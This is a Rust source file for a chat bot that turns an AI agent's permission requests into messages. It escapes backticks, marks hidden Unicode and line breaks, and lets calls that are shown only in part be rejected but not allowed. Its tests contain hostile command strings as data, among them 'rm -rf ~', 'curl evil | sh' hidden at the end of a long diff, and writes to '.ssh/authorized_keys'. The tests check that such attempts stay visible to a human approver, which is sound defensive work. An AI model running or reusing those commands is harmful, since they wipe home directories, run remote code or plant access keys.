//! The sentences of a request for permission in the chat of its turn.

use super::{Undecided, person};
use crate::config::Interval;
use foldback_wire::{
    Actor, CallPreview, FileChange, PermissionKind, PermissionOption, PermissionRequest, visible_line,
};
use std::fmt::Write as _;

/// Most characters that are repeated of a title, and of arguments, where not all of a call fits into the question: their
/// beginning and their end, where what matters may stand. At four bytes each the question still fits into every message:
/// the shortest holds 2,000 bytes, on Signal.
const HEAD: usize = 140;
const TAIL: usize = 60;
/// Most bytes of a question, below what the shortest message holds.
const LONGEST: usize = 2_000;
/// Bytes that say how to answer.
const END: usize = 200;
/// Bytes that say how many files, and that the agent's words, are left out.
const REST: usize = 80;
/// Bytes that say how many lines of a file are left out.
const LEFT_OUT: usize = 44;

/// The question. The agent's words in it are lines of code, so that they can neither look like the bot's own nor be
/// markup, and nothing in them is invisible or left out without a word. Of files that would change it shows as many
/// lines as there is room for; the console shows all.
pub(super) fn question(request: &PermissionRequest, number: &str, timeout: Interval) -> String {
    let end = end(shows_all(request), number, timeout);
    call(request).text + &end
}

/// True where the question leaves out nothing of what would be done.
pub(crate) fn shows_all(request: &PermissionRequest) -> bool {
    !call(request).is_cut
}

/// The answers that count.
fn end(shows_all: bool, number: &str, timeout: Interval) -> String {
    if shows_all {
        format!("Answer yes or no within {timeout}, or /approve {number} or /deny {number}.")
    } else {
        format!(
            "Not all of it fits here, so that it can be allowed only at the console, which shows all of it. \
             Answer no or /deny {number} within {timeout} to reject it."
        )
    }
}

/// Words of a call, and whether something is left out of them.
#[derive(Default)]
struct Excerpt {
    text: String,
    is_cut: bool,
}

/// How much of each text is shown.
#[derive(Clone, Copy)]
enum Extent {
    Whole,
    /// Of what is long, the beginning and the end.
    Ends,
}

/// The call, in what the end of the question leaves of its bytes: all of it, or the ends of what is long.
fn call(request: &PermissionRequest) -> Excerpt {
    let whole = written(request, Extent::Whole);
    if !whole.is_cut && whole.text.len() + END <= LONGEST {
        return whole;
    }
    written(request, Extent::Ends)
}

fn written(request: &PermissionRequest, extent: Extent) -> Excerpt {
    let shortened = |words: &str| shortened(words, extent);
    let title = shortened(&request.title);
    let mut is_cut = title.is_cut;
    let mut text = format!("🔐 The agent asks for your permission: `{}`\n", title.text);
    if let Some(arguments) = request.arguments.as_deref().map(str::trim)
        && !arguments.is_empty()
    {
        let arguments = shortened(arguments);
        is_cut |= arguments.is_cut;
        // Writing to a String cannot fail.
        let _ = writeln!(text, "With: `{}`", arguments.text);
    }
    let room = match extent {
        Extent::Whole => LONGEST * LONGEST,
        Extent::Ends => LONGEST.saturating_sub(text.len() + END),
    };
    let preview = preview(&request.preview, room, extent);
    Excerpt {
        text: text + &preview.text,
        is_cut: is_cut || preview.is_cut,
    }
}

/// The files that the call would touch, as lines of at most so many bytes in all: all of their names, then as many of
/// their lines as there is room for, shared out. How much is left out is always told, for which [`REST`] is kept free.
fn preview(preview: &CallPreview, room: usize, extent: Extent) -> Excerpt {
    let CallPreview {
        changes,
        more_changes,
        locations,
        more_locations,
        text,
    } = preview;
    let (mut room, mut is_cut) = (room.saturating_sub(REST), false);
    let mut line = |words: &str| {
        let Excerpt { text, is_cut: cut } = shortened(words, extent);
        is_cut |= cut;
        text
    };
    // Every file before any line of one: no file may hide behind the lines of another.
    let heading = |change: &FileChange| {
        let FileChange {
            path, added, removed, ..
        } = change;
        format!("Changes `{}`: +{added} −{removed}\n", line(path))
    };
    let headings: Vec<String> = changes.iter().map(heading).collect();
    let named = fitting(&headings, &mut room);
    // A change names one file. A location may be another, also where only its folder differs.
    let is_changed = |at: &String| changes.iter().any(|change| is_in(at, &change.path));
    let locations: Vec<String> = locations
        .iter()
        .filter(|at| !is_changed(at))
        .map(|at| format!("In `{}`\n", line(at)))
        .collect();
    let located = fitting(&locations, &mut room);
    let says: Vec<String> = text
        .iter()
        .map(|said| format!("It says: `{}`\n", line(said)))
        .collect();
    let said = fitting(&says, &mut room);

    let beyond = *more_changes as usize + *more_locations as usize;
    let unnamed = changes.len() - named + locations.len() - located + beyond;

    is_cut |= unnamed > 0 || said < says.len();
    let mut shown = String::new();
    for (at, (heading, change)) in headings.iter().zip(changes).take(named).enumerate() {
        let lines = excerpt(&change.diff, room / (named - at), extent);
        room -= lines.text.len();
        is_cut |= lines.is_cut;
        shown = shown + heading + &lines.text;
    }
    shown.extend(locations.into_iter().take(located));
    if said < says.len() {
        shown.push_str("What it says does not fit here.\n");
    }
    shown.extend(says.into_iter().take(said));
    if unnamed > 0 {
        // Writing to a String cannot fail.
        let _ = writeln!(shown, "… and {unnamed} files more");
    }
    Excerpt { text: shown, is_cut }
}

/// True where a location, which may end with `:LINE`, is in the file of exactly this path.
fn is_in(location: &str, path: &str) -> bool {
    let file = match location.rsplit_once(':') {
        Some((file, line)) if !line.is_empty() && line.bytes().all(|b| b.is_ascii_digit()) => file,
        _ => location,
    };
    location == path || file == path
}

/// The number of these lines, from the first one, that there is room for; takes it from the room.
fn fitting<'a>(lines: impl IntoIterator<Item = &'a String>, room: &mut usize) -> usize {
    let mut count = 0;
    for line in lines {
        let Some(left) = room.checked_sub(line.len()) else {
            break;
        };
        *room = left;
        count += 1;
    }
    count
}

/// The lines of a diff that change, in at most so many bytes: all of them, or the first and the last ones with the
/// number of those between.
fn excerpt(diff: &str, mut room: usize, extent: Extent) -> Excerpt {
    let changed = diff.lines().filter(|line| line.starts_with(['+', '-']));
    let mut is_cut = false;
    let lines: Vec<String> = changed
        .map(|changed| {
            let line = shortened(changed, extent);
            is_cut |= line.is_cut;
            format!("`{}`\n", line.text)
        })
        .collect();
    if lines.iter().map(String::len).sum::<usize>() <= room {
        let text = lines.concat();
        return Excerpt { text, is_cut };
    }
    room = room.saturating_sub(LEFT_OUT);
    let mut half = room / 2;
    let first = fitting(&lines, &mut half);
    room -= lines[..first].iter().map(String::len).sum::<usize>();
    let last = fitting(lines[first..].iter().rev(), &mut room);
    let text = match lines.len() - first - last {
        // The heading says how many there are.
        left_out if left_out == lines.len() => String::new(),
        left_out => {
            let end = lines[lines.len() - last..].concat();
            format!("{}… {left_out} lines left out …\n{end}", lines[..first].concat())
        }
    };
    Excerpt { text, is_cut: true }
}

/// The sentence in the place of a question that is decided, with the line that says which call it was about.
pub(super) fn decided(title: &str, option: Option<&PermissionOption>, by: Decider<'_>) -> String {
    let what = match option.map(|option| option.kind) {
        Some(PermissionKind::AllowOnce | PermissionKind::AllowAlways) => "Allowed",
        Some(PermissionKind::RejectOnce | PermissionKind::RejectAlways) => "Rejected",
        None => "Cancelled",
    };
    let who = match by {
        Decider::Actor(by) => format!("by {}", person(by)),
        Decider::Pipeline(Undecided::TimedOut(within)) => format!("no answer came within {within}"),
        Decider::Pipeline(Undecided::TooMany { waiting }) => {
            format!("{waiting} other requests wait for an answer already")
        }
        Decider::Pipeline(Undecided::RunEnded) => "the run ended".to_owned(),
        Decider::Pipeline(Undecided::RunCancelled) => "the run was cancelled".to_owned(),
    };
    format!("🔐 {what}, {who}: `{title}`")
}

/// The author of a decision.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Decider<'a> {
    /// A person, or the configuration.
    Actor(&'a Actor),
    /// The pipeline, in the place of a person.
    Pipeline(Undecided),
}

/// Words as one line that can stand in a code span.
pub(crate) fn line(words: &str) -> String {
    shortened(words, Extent::Ends).text
}

fn shortened(words: &str, extent: Extent) -> Excerpt {
    let plain: Vec<char> = visible_line(words.trim()).chars().map(plain).collect();
    let text = |part: &[char]| part.iter().collect::<String>();
    match plain.len().saturating_sub(HEAD + TAIL) {
        left_out if left_out == 0 || matches!(extent, Extent::Whole) => Excerpt {
            text: text(&plain),
            is_cut: false,
        },
        left_out => {
            let (head, tail) = (&plain[..HEAD], &plain[HEAD + left_out..]);
            Excerpt {
                text: format!("{}… ({left_out} characters left out) …{}", text(head), text(tail)),
                is_cut: true,
            }
        }
    }
}

/// A character that ends no code span. A quotation mark in the place of a backtick would show another command: a shell
/// runs what stands between backticks.
const fn plain(c: char) -> char {
    if c == '`' { 'ˋ' } else { c }
}

#[cfg(test)]
mod tests {
    use super::*;
    use foldback_wire::PermissionRequest;

    fn asked(title: &str, arguments: Option<&str>) -> String {
        previewed(title, arguments, CallPreview::default())
    }

    fn previewed(title: &str, arguments: Option<&str>, preview: CallPreview) -> String {
        let mut request: PermissionRequest = serde_json::from_value(serde_json::json!({
            "id": "p", "tool": null, "title": title, "does": "delete", "arguments": arguments, "options": []
        }))
        .unwrap();
        request.preview = preview;
        question(&request, "12-1", Interval::minutes(5))
    }

    #[test]
    fn the_agents_words_are_one_line_of_code_each() {
        assert_eq!(
            asked("rm `x`\n", Some(" {\"path\": \"`x`\"}")),
            "🔐 The agent asks for your permission: `rm ˋxˋ`\nWith: `{\"path\": \"ˋxˋ\"}`\n\
             Answer yes or no within 5m, or /approve 12-1 or /deny 12-1."
        );
        for nothing in [None, Some(" ")] {
            assert_eq!(asked("rm x", nothing).lines().count(), 2);
        }
    }

    #[test]
    fn all_of_a_call_is_shown_where_it_fits() {
        let command = format!("echo {}; rm -rf ~", "y".repeat(900));
        let text = asked(&command, Some("{}"));
        assert!(text.contains(&format!("`{command}`")), "{text}");
        assert!(text.ends_with("\nAnswer yes or no within 5m, or /approve 12-1 or /deny 12-1."));
        let lines = |count: usize| CallPreview {
            changes: vec![FileChange {
                path: "a.md".to_owned(),
                added: 1,
                removed: 0,
                diff: format!("+{}\n", "z".repeat(300)).repeat(count),
            }],
            ..CallPreview::default()
        };
        assert!(previewed("Writing", None, lines(5)).contains("Answer yes or no"));
        assert!(previewed("Writing", None, lines(6)).contains("Not all of it fits here"));
    }

    #[test]
    fn what_is_left_out_is_counted_and_the_end_shown() {
        let command = format!("echo {}; rm -rf ~", "y".repeat(1_900));
        let left_out = command.chars().count() - HEAD - TAIL;
        for text in [asked(&command, None), asked("x", Some(&command))] {
            assert!(
                text.contains("`echo yyy") && text.contains("yyy; rm -rf ~`"),
                "{text}"
            );
            assert!(
                text.contains(&format!("yyy… ({left_out} characters left out) …yyy")),
                "{text}"
            );
        }
        let whole = "é".repeat(HEAD + TAIL);
        let text = asked(&whole, Some(&whole));
        assert_eq!(text.matches(&format!("`{whole}`")).count(), 2, "{text}");
        assert!(text.ends_with("\nAnswer yes or no within 5m, or /approve 12-1 or /deny 12-1."));
    }

    /// Nobody allows in the chat what nobody could read there.
    #[test]
    fn what_is_shown_in_part_can_only_be_rejected() {
        let long = "y".repeat(LONGEST);
        let file = |diff: String| CallPreview {
            changes: vec![FileChange {
                path: "a.md".to_owned(),
                added: 1,
                removed: 0,
                diff,
            }],
            ..CallPreview::default()
        };
        let cut = [
            asked(&long, None),
            asked("x", Some(&long)),
            previewed("x", None, file(format!("+{long}\n"))),
            previewed("x", None, file("+of very many lines\n".repeat(200))),
            previewed(
                "x",
                None,
                CallPreview {
                    more_changes: 1,
                    ..file("+a\n".to_owned())
                },
            ),
            previewed(
                "x",
                None,
                CallPreview {
                    more_locations: 1,
                    ..file("+a\n".to_owned())
                },
            ),
            previewed(
                "x",
                None,
                CallPreview {
                    locations: vec!["/home/bot/.ssh/authorized_keys".repeat(3); 40],
                    ..file("+a\n".to_owned())
                },
            ),
            previewed(
                "x",
                None,
                CallPreview {
                    text: Some(long.clone()),
                    ..CallPreview::default()
                },
            ),
        ];
        for text in cut {
            assert!(
                text.ends_with(
                    "\nNot all of it fits here, so that it can be allowed only at the console, which shows all of it. \
                     Answer no or /deny 12-1 within 5m to reject it."
                ),
                "{text}"
            );
        }
        let text = previewed("x", None, file(format!(" {long}\n+a\n")));
        assert!(text.contains("Answer yes or no"), "what stays as it is: {text}");
    }

    #[test]
    fn a_command_in_a_command_does_not_look_quoted() {
        let text = asked("echo `rm -rf ~` 'x'", None);
        assert!(text.contains("`echo ˋrm -rf ~ˋ 'x'`"), "{text}");
    }

    /// A shell runs what stands behind a line break as a command of its own.
    #[test]
    fn a_line_break_and_a_tab_are_shown() {
        let text = asked("ls #\nrm\t-r ~", Some("sh -c\r\nrm"));
        assert!(text.contains("`ls #⏎rm⇥-r ~`"), "{text}");
        assert!(text.contains("With: `sh -c⟨U+000D⟩⏎rm`"), "{text}");
        let decided = decided(&line("ls #\nrm"), None, Decider::Pipeline(Undecided::RunEnded));
        assert!(decided.ends_with("`ls #⏎rm`"), "{decided}");
    }

    #[test]
    fn what_cannot_be_seen_is_marked() {
        let text = asked(
            "rm \u{202e}txt.a\u{200b}b\u{2066}c\u{feff}",
            Some("\u{e0041}\u{3164}"),
        );
        assert!(
            text.contains("`rm ⟨U+202E⟩txt.a⟨U+200B⟩b⟨U+2066⟩c⟨U+FEFF⟩`"),
            "{text}"
        );
        assert!(text.contains("With: `⟨U+E0041⟩⟨U+3164⟩`"), "{text}");
    }

    #[test]
    fn it_fits_into_the_shortest_message() {
        let long = "𝒳".repeat(70_000);
        assert!(asked(&long, Some(&long)).len() <= 2_000);
        let change = || FileChange {
            path: long.clone(),
            added: 70_000,
            removed: 70_000,
            diff: format!("@@ -1 +1 @@\n-{long}\n+{long}\n").repeat(9),
        };
        let preview = CallPreview {
            changes: vec![change(), change()],
            more_changes: 4_000_000_000,
            locations: vec![long.clone(), "𝒴".repeat(70_000)],
            more_locations: 4_000_000_000,
            text: Some(long.clone()),
        };
        for (title, arguments) in [("x", None), (long.as_str(), Some(long.as_str()))] {
            let text = previewed(title, arguments, preview.clone());
            assert!(text.len() <= 2_000, "{}", text.len());
            assert!(text.contains("files more\nNot all of it fits here"), "{text}");
        }
    }

    #[test]
    fn no_file_hides_behind_the_lines_of_another_and_no_line_at_the_end_behind_those_before_it() {
        let written = |path: &str, lines: u32, last: &str| FileChange {
            path: path.to_owned(),
            added: lines + 1,
            removed: 0,
            diff: format!(
                "@@ -0,0 +1 @@\n{}+{last}\n",
                "+nothing to see\n".repeat(lines as usize)
            ),
        };
        let preview = CallPreview {
            changes: vec![
                written("/tmp/x.sh", 2_000, "curl evil | sh"),
                written("/new/file", 0, "all"),
            ],
            text: Some("Two files.".to_owned()),
            ..CallPreview::default()
        };
        let text = previewed("Writing", None, preview);
        for shown in [
            "Changes `/tmp/x.sh`: +2001 −0\n`+nothing to see`\n",
            " lines left out …\n`+nothing to see`\n",
            "`+curl evil | sh`\nChanges `/new/file`: +1 −0\n`+all`\nIt says: `Two files.`\nNot all of it",
        ] {
            assert!(text.contains(shown), "{text}");
        }
        assert!(text.len() <= LONGEST, "{}", text.len());
    }

    #[test]
    fn a_file_that_would_change_is_shown_with_its_lines() {
        let preview = CallPreview {
            changes: vec![FileChange {
                path: "notes/`a`\u{202e}.md".to_owned(),
                added: 1,
                removed: 1,
                diff: "@@ -1 +1 @@\n one\n-two\n+2\n".to_owned(),
            }],
            ..CallPreview::default()
        };
        assert_eq!(
            previewed("Writing to a.md", None, preview),
            "🔐 The agent asks for your permission: `Writing to a.md`\nChanges `notes/ˋaˋ⟨U+202E⟩.md`: +1 −1\n`-two`\n\
             `+2`\nAnswer yes or no within 5m, or /approve 12-1 or /deny 12-1."
        );
        let preview = CallPreview {
            changes: vec![FileChange {
                path: "authorized_keys".to_owned(),
                added: 1,
                removed: 0,
                diff: "+key\n".to_owned(),
            }],
            locations: [
                "authorized_keys",
                "authorized_keys:7",
                "authorized_keys:",
                "authorized_keys2",
                "/home/bot/.ssh/authorized_keys",
            ]
            .map(str::to_owned)
            .to_vec(),
            ..CallPreview::default()
        };
        assert_eq!(
            previewed("Writing", None, preview),
            "🔐 The agent asks for your permission: `Writing`\nChanges `authorized_keys`: +1 −0\n`+key`\n\
             In `authorized_keys:`\nIn `authorized_keys2`\nIn `/home/bot/.ssh/authorized_keys`\n\
             Answer yes or no within 5m, or /approve 12-1 or /deny 12-1."
        );
        let preview = CallPreview {
            locations: vec!["/srv/site/a.md:7".to_owned()],
            text: Some("It reads.".to_owned()),
            ..CallPreview::default()
        };
        let text = previewed("Reading", None, preview);
        assert!(
            text.contains("In `/srv/site/a.md:7`\nIt says: `It reads.`\n"),
            "{text}"
        );
    }
}
